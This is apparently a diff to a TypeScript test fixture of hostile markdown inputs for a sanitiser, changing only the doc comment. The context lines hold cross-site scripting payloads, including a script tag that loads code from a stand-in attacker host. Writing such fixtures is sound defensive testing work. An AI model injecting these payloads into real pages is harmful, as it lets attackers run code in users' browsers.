@@ -1,4 +1,4 @@
-/** Markdown by which a page could run a script, load something, or leave its place. */
+/** Markdown with which a page could run a script, load a resource, or break out of its element. */
 export const hostilePages: Record<string, string> = {
   'a script': '<script>alert(1)</script>',
   'a script in capitals': '<SCRIPT SRC=https://evil.example/a.js></SCRIPT>',
